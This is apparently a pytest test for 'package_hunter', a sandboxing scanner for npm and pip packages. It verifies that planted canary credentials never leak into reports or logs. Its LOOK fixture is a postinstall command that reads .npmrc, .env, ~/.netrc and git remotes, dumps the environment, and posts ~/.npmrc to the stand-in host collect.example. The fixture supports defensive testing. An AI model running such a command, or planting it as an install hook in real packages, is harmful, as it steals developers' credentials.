"""Real secrets stand in nothing that a scan writes: not those that came with a project, not those with which the
host's registries are asked. They are planted here, and everything written is searched for them."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import tarfile
import threading
import uuid
import zlib
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from package_hunter.report import FORMATS
from tests.support import requires
from tests.support.hunter import hunt, npm_project

PROJECT = {
    "npm": "npm_R7vQ2mZk9XpL4tYw8sNb3cJd6fHg1aVe5uKo",
    "env": "sk_live_51HqRealSecretOfTheProject9x8y7z",
    "pip": "pip-RealPasswordOfTheProject-77aa",
    "git": "ghp_RealRemotePasswordOfTheProject001122",
    "aws": "wJalrXUtnFEMIRealSecretOfTheProjectKEY1",
    "index": "RealIndexPassword-55ee44dd",
    "lock": "RealLockFilePassword-33bb22aa",
    "url": "ghp_RealTokenOfTheRepository0011223344",
}
UPSTREAM = {"npm": "npm_UpstreamTokenOfTheHost0123456789abcd", "pip": "UpstreamPasswordOfTheHost-9911"}
LOOK = "cat .npmrc ../../.npmrc ../../.env ~/.npmrc ~/.netrc; env; git -C ../.. remote -v; wget -qO- --tries=1 --post-file=$HOME/.npmrc http://collect.example/ || true"  # fmt: skip # noqa: E501


# Not seen by an earlier run, whose answers the cache still has.
NPM, PIP = (f"{kind}-{uuid.uuid4().hex[:12]}.example" for kind in ("npm", "pip"))
DATA = Path("/var/lib/package-hunter")


class Registry:
    """An npm registry and a pip index behind a proxy on loopback, which answer only to the host's
    credentials."""

    def __init__(self) -> None:
        self.refused: list[str] = []
        self.served: list[str] = []
        self.tarball = _tgz({"name": "inner-lib", "version": "1.0.0", "scripts": {"postinstall": LOOK}})
        outer = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self) -> None:
                path = urlsplit(self.path).path  # asked as a proxy: the whole URL
                status, body = outer.answer(path, self.headers.get("authorization") or "")
                self.send_response(status)
                self.send_header(
                    "content-type", "application/json" if path.startswith("/npm") else "text/html"
                )
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.at = f"127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def answer(self, path: str, auth: str) -> tuple[int, bytes]:
        pair = base64.b64encode(f"me:{UPSTREAM['pip']}".encode()).decode()
        if auth != (f"Basic {pair}" if path.startswith("/simple") else f"Bearer {UPSTREAM['npm']}"):
            self.refused.append(path)
            return 401, b"{}"
        self.served.append(path)
        if path == "/npm/inner-lib":
            dist = {
                "tarball": f"http://{NPM}/npm/inner-lib/-/inner-lib-1.0.0.tgz",
                "integrity": "sha512-" + base64.b64encode(hashlib.sha512(self.tarball).digest()).decode(),
            }
            version = {"name": "inner-lib", "version": "1.0.0", "dist": dist, "hasInstallScript": True}
            document = {"name": "inner-lib", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": version}}
            return 200, json.dumps(document).encode()
        if path == "/npm/inner-lib/-/inner-lib-1.0.0.tgz":
            return 200, self.tarball
        if path == "/simple/innerpy/":
            return 200, b'<!DOCTYPE html><html><body><a href="innerpy-1.0.tar.gz">x</a></body></html>'
        return 404, b"{}"


def _tgz(manifest: dict[str, object]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, text in (("package.json", json.dumps(manifest)), ("index.js", "module.exports = 1;\n")):
            member = tarfile.TarInfo(f"package/{name}")
            member.size = len(text)
            archive.addfile(member, io.BytesIO(text.encode()))
    return buffer.getvalue()


@pytest.fixture
def registry() -> Iterator[Registry]:
    requires.needs_runc()
    requires.needs_btf()
    requires.needs_program("npm")
    server = Registry()
    yield server
    server.server.shutdown()
    server.server.server_close()


def _project(folder: Path) -> Path:
    project = npm_project(folder, "app", {"postinstall": LOOK}, dependencies={"inner-lib": "1.0.0"})
    manifest = json.loads((project / "package.json").read_text())
    manifest["repository"] = f"git+https://{PROJECT['url']}@git.example/me/app.git"
    (project / "package.json").write_text(json.dumps(manifest))
    texts = {
        ".npmrc": f"//registry.example/:_authToken={PROJECT['npm']}\n",
        ".env": f"STRIPE_KEY={PROJECT['env']}\n",
        "pip.conf": f"[global]\nindex-url = https://me:{PROJECT['pip']}@index.example/simple\n",
        ".git/config": f'[remote "origin"]\n\turl = https://me:{PROJECT["git"]}@git.example/app.git\n',
        ".aws/credentials": f"[default]\naws_secret_access_key = {PROJECT['aws']}\n",
        "requirements.txt": f"--extra-index-url https://me:{PROJECT['index']}@index.example/simple\ninnerpy\n",
        ".gitmodules": f'[submodule "a"]\n\turl = https://me:{PROJECT["lock"]}@git.example/a.git\n',
    }
    for name, text in texts.items():
        (project / name).parent.mkdir(parents=True, exist_ok=True)
        (project / name).write_text(text)
    return project


def _host(folder: Path, at: str) -> dict[str, str]:
    """The environment of a user whose package managers hold credentials for their registries."""
    (folder / ".config/pip").mkdir(parents=True)
    (folder / ".npmrc").write_text(
        f"registry=http://{NPM}/npm/\nproxy=http://{at}/\n//{NPM}/npm/:_authToken={UPSTREAM['npm']}\n"
    )
    pip = f"[global]\nindex-url = http://me:{UPSTREAM['pip']}@{PIP}/simple/\nproxy = http://{at}\n"
    (folder / ".config/pip/pip.conf").write_text(pip)
    names = ("npm_config_", "pip_")
    env = {key: text for key, text in os.environ.items() if not key.lower().startswith(names)}
    return {**env, "HOME": str(folder), "PACKAGE_HUNTER_TRACEBACK": "1"}


def _found(where: str, data: bytes) -> list[str]:
    return [f"{key} in {where}" for key, text in {**PROJECT, **UPSTREAM}.items() if text.encode() in data]


def test_nothing_written_holds_a_secret(tmp_path: Path, registry: Registry) -> None:
    project = _project(tmp_path / "p")
    env = _host(tmp_path / "home", registry.at)
    out = tmp_path / "out"
    out.mkdir()
    before = _files(DATA)
    forms = [part for form in FORMATS for part in ("--format", form, "-o", str(out / f"report.{form}"))]
    done = hunt("scan", project, "--record", out / "all.scap", "--exit-zero", *forms, env=env)
    assert done.returncode == 0, done.stderr
    assert any(path.endswith(".tgz") for path in registry.served), "the credentials were not used"
    assert "/simple/innerpy/" in registry.served
    report = json.loads((out / "report.json").read_text())
    assert "pkg:npm/inner-lib@1.0.0" in [p["purl"] for p in report["packages"]]
    assert {".npmrc", ".env", "pip.conf", ".aws/credentials"} <= set(report["canaries"]["replaced"])
    assert [f for f in report["findings"] if f["kind"] == "exfiltration"]
    written = _files(out)
    assert len(written) >= len(FORMATS) + 2
    leaks = _found("stderr", done.stderr.encode()) + _found("stdout", done.stdout.encode())
    for path in sorted(written | (_files(DATA) - before)):
        leaks += _found(path.name, _plain(path))
    assert leaks == []


def _files(folder: Path) -> set[Path]:
    """Every file below, those of the image and its making left out."""
    found: set[Path] = set()
    for place in folder.iterdir():
        if place.is_file():
            found.add(place)
        elif place.name != "image":
            found |= {Path(top, name) for top, _, names in os.walk(place) for name in names}
    return found


def _plain(path: Path) -> bytes:
    """The file's bytes, and what they are unpacked."""
    raw = path.read_bytes()
    if raw[:2] != b"\x1f\x8b":
        return raw
    text = bytearray()
    while raw[:2] == b"\x1f\x8b":
        unpack = zlib.decompressobj(31)
        text += unpack.decompress(raw)
        raw = unpack.unused_data
    return bytes(text)
